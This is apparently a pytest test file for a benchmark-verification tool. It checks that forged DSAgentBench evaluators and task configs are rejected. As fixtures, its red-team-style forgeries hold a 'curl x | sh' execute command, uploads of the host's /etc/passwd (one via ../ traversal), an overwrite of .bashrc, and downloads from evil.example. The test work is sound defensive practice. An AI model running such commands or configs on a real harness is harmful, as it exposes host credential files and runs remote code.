"""`daregen verify` fails every published DSAgentBench evaluator.py that is not, byte for byte, the one the
code renders (a harness runs it on its host): a forged one, a link to one, a missing one, each in one line
naming the file; the rendered one passes, and a tree without dsagentbench/ has nothing to compare. So does
every config.json that is not one build_config writes for its task (it names the file the harness runs, the
host files it uploads, the commands it executes), every entry of tasks/ that is not a folder (a FIFO, a
file), and every file whose content differs from the tree's own manifest.json."""

from __future__ import annotations

import copy
import os
from pathlib import Path

import pytest

from finalize.dsagent.build import OUT_DIR, TASKS_DIR, evaluator_source
from pipeline.core.hashing import content_hash
from pipeline.core.jsonio import write_json
from pipeline.core.metrics import SOLVED_THRESHOLD
from pipeline.core.safe_io import InputLimits
from pipeline.review.verify import desktop_evaluator_verdicts, manifest_verdicts

VM = "/home/user/dsagent"


def _config(name: str, source: str = "iris") -> dict:
    """A config.json as finalize.dsagent.config.build_config writes it (download placement, VS Code)."""
    folder = f"{VM}/{name}"
    return {"id": "x", "snapshot": "dsagentbench", "instruction": "do", "source": "daregen:iris",
            "config": [{"type": "execute", "parameters": {"command": ["mkdir", "-p", folder]}},
                       {"type": "download", "parameters": {"files": [
                           {"url": f"http://127.0.0.1:8000/{source}/source/train_v1.parquet",
                            "path": f"{folder}/train_v1.parquet"},
                           {"url": f"http://127.0.0.1:8000/{OUT_DIR}/{TASKS_DIR}/{name}/files/a.csv",
                            "path": f"{folder}/a.csv"}]}},
                       {"type": "launch", "parameters": {"command": ["code", folder]}}],
            "evaluator": {"func": "daregen_python_evaluator",
                          "result": {"type": "vm_file", "path": f"{folder}/prediction.csv", "dest": "prediction.csv"},
                          "expected": {"type": "rule", "rules": {"evaluator": "evaluator.py", "expected": "expected.json",
                                                                 "solved_threshold": SOLVED_THRESHOLD}}},
            "daregen": {"key": "k", "source_task": source}}


def _desktop_task(tree: Path, name: str, cfg: dict | None = None, dare_task: bool = True) -> Path:
    """A desktop task folder, and (`dare_task`) the DARE task folder its config names as its source."""
    folder = tree / OUT_DIR / TASKS_DIR / name
    folder.mkdir(parents=True)
    (folder / "evaluator.py").write_text(evaluator_source(), encoding="utf-8")
    cfg = cfg or _config(name)
    write_json(folder / "config.json", cfg)
    source = (cfg.get("daregen") or {}).get("source_task")
    if dare_task and isinstance(source, str) and source.isidentifier():
        (tree / source / "verify").mkdir(parents=True, exist_ok=True)
        write_json(tree / source / "verify" / "all_metadata.json", {})
    return folder


def test_a_config_whose_source_task_is_no_task_folder_of_the_tree_fails(tmp_path: Path) -> None:
    # Re-review of red team 48 #2: a forged config naming `etc` (or `.ssh`) as its source task passed
    # config_problem with its own base and placed the host's /etc/shadow.
    _desktop_task(tmp_path, "iris__if")
    _desktop_task(tmp_path, "etc__x", _config("etc__x", source="etc"), dare_task=False)
    [verdict] = desktop_evaluator_verdicts(tmp_path, InputLimits())
    assert verdict.task == f"{OUT_DIR}/{TASKS_DIR}/etc__x" and verdict.status == "fail"
    assert verdict.problems[0].message == "its daregen.source_task is not a task folder of this tree"


def test_every_evaluator_that_is_not_the_rendered_one_fails_naming_its_file(tmp_path: Path) -> None:
    tasks = tmp_path / OUT_DIR / TASKS_DIR
    _desktop_task(tmp_path, "iris__if")
    for name in ("forged__if", "linked__if", "missing__if"):
        (tasks / name).mkdir(parents=True)
    (tasks / "forged__if" / "evaluator.py").write_text("print(1.0)\n", encoding="utf-8")
    (tasks / "linked__if" / "evaluator.py").symlink_to(tasks / "iris__if" / "evaluator.py")
    verdicts = {v.task: v for v in desktop_evaluator_verdicts(tmp_path, InputLimits())}
    assert sorted(verdicts) == [f"{OUT_DIR}/{TASKS_DIR}/{n}__if" for n in ("forged", "linked", "missing")]
    for name, why in (("forged", "differs from the evaluator.py this daregen renders"), ("linked", "link"),
                      ("missing", "")):
        verdict = verdicts[f"{OUT_DIR}/{TASKS_DIR}/{name}__if"]
        [problem] = verdict.problems
        assert verdict.status == "fail" and problem.where == f"{OUT_DIR}/{TASKS_DIR}/{name}__if/evaluator.py"
        assert why in problem.message and "\n" not in problem.message


def test_a_tree_without_desktop_tasks_has_nothing_to_compare(tmp_path: Path) -> None:
    assert desktop_evaluator_verdicts(tmp_path, InputLimits()) == []
    (tmp_path / OUT_DIR).mkdir()
    (tmp_path / OUT_DIR / TASKS_DIR).symlink_to(tmp_path)
    [verdict] = desktop_evaluator_verdicts(tmp_path, InputLimits())
    assert verdict.status == "fail" and verdict.problems[0].message == "is a link or not a folder"


def _forged(how: str) -> dict:
    """The red team's forgeries (reproduction 2), and neighbours: each makes the harness run or read
    something build_config never names."""
    cfg, folder = _config("iris__mm"), f"{VM}/iris__mm"
    if how == "evaluator":
        cfg["evaluator"]["expected"]["rules"]["evaluator"] = "oracle.py"
    elif how == "upload":
        cfg["config"].insert(1, {"type": "upload_file", "parameters": {"files": [
            {"local_path": "/etc/passwd", "path": f"{folder}/host_passwd.txt"}]}})
    elif how == "upload-only":
        cfg["config"][1] = {"type": "upload_file", "parameters": {"files": [
            {"local_path": "/etc/passwd", "path": f"{folder}/host_passwd.txt"}]}}
    elif how == "upload-dotdot":
        cfg["config"][1] = {"type": "upload_file", "parameters": {"files": [
            {"local_path": "./iris/../../etc/passwd", "path": f"{folder}/p"}]}}
    elif how == "execute":
        cfg["config"].insert(0, {"type": "execute", "parameters": {"command": ["bash", "-c", "curl x | sh"]}})
    elif how == "launch":
        cfg["config"][2]["parameters"]["command"] = ["bash", "-c", "id"]
    elif how == "dest":
        cfg["evaluator"]["result"]["dest"] = "../../.bashrc"
    elif how == "other-task":
        cfg["config"][1]["parameters"]["files"][0]["url"] = "http://127.0.0.1:8000/wine/source/train_v1.parquet"
    return cfg


@pytest.mark.parametrize("how", ["evaluator", "upload", "upload-only", "upload-dotdot", "execute", "launch", "dest",
                                 "other-task"])
def test_a_config_the_code_would_not_render_fails_in_one_line(tmp_path: Path, how: str) -> None:
    """Fails: the harness runs the evaluator config.json names, uploads and executes what it lists."""
    _desktop_task(tmp_path, "iris__if")
    _desktop_task(tmp_path, "iris__mm", _forged(how))
    [verdict] = desktop_evaluator_verdicts(tmp_path, InputLimits())
    [problem] = verdict.problems
    assert verdict.status == "fail" and problem.where == f"{OUT_DIR}/{TASKS_DIR}/iris__mm/config.json"
    assert problem.message.startswith("it") and "\n" not in problem.message


def test_a_config_placing_from_another_base_than_the_others_fails(tmp_path: Path) -> None:
    """Fails: verify does not know the operator's base_url, but one tree has one."""
    _desktop_task(tmp_path, "iris__if")
    _desktop_task(tmp_path, "iris__chart")
    cfg = _config("iris__mm")
    for f in cfg["config"][1]["parameters"]["files"]:
        f["url"] = f["url"].replace("http://127.0.0.1:8000", "http://evil.example")
    _desktop_task(tmp_path, "iris__mm", cfg)
    [verdict] = desktop_evaluator_verdicts(tmp_path, InputLimits())
    assert verdict.task.endswith("iris__mm") and "evil.example" in verdict.problems[0].message


@pytest.mark.parametrize("kind", ["fifo", "file"])
def test_an_entry_of_tasks_that_is_not_a_folder_fails_alone(tmp_path: Path, kind: str) -> None:
    """Fails that entry only ("not a folder"): it used to end the whole verify with an OSError."""
    _desktop_task(tmp_path, "iris__if")
    entry = tmp_path / OUT_DIR / TASKS_DIR / "odd"
    os.mkfifo(entry) if kind == "fifo" else entry.write_text("x", encoding="utf-8")
    [verdict] = desktop_evaluator_verdicts(tmp_path, InputLimits())
    assert verdict.task == f"{OUT_DIR}/{TASKS_DIR}/odd" and verdict.problems[0].message == "is a link or not a folder"


def test_a_file_that_differs_from_the_manifest_fails_naming_it(tmp_path: Path) -> None:
    """Fails: the tree's own manifest.json records each file's content hash; an edit, a missing file and an
    unlisted file under a covered folder each fail in one line; the user's own files beside them do not."""
    folder = _desktop_task(tmp_path, "iris__mm")
    (folder / "oracle.py").write_text("print(1)\n", encoding="utf-8")
    files = {p.relative_to(tmp_path).as_posix(): content_hash(p) for p in sorted(tmp_path.rglob("*")) if p.is_file()}
    write_json(tmp_path / "manifest.json", {"files": {**copy.deepcopy(files), "iris/gone.csv": "0" * 64}})
    assert [v.task for v in manifest_verdicts(tmp_path, InputLimits())] == ["iris/gone.csv"]
    (folder / "oracle.py").write_text("import os\nprint(1.0)\n", encoding="utf-8")
    (folder / "extra.py").write_text("x", encoding="utf-8")
    (tmp_path / "README.md").write_text("the user's", encoding="utf-8")
    verdicts = {v.task: v.problems[0].message for v in manifest_verdicts(tmp_path, InputLimits())}
    rel = f"{OUT_DIR}/{TASKS_DIR}/iris__mm"
    assert sorted(verdicts) == [f"{rel}/extra.py", f"{rel}/oracle.py", "iris/gone.csv"]
    assert verdicts[f"{rel}/oracle.py"] == "differs from its hash in manifest.json"
    assert verdicts[f"{rel}/extra.py"] == "is not listed in manifest.json"
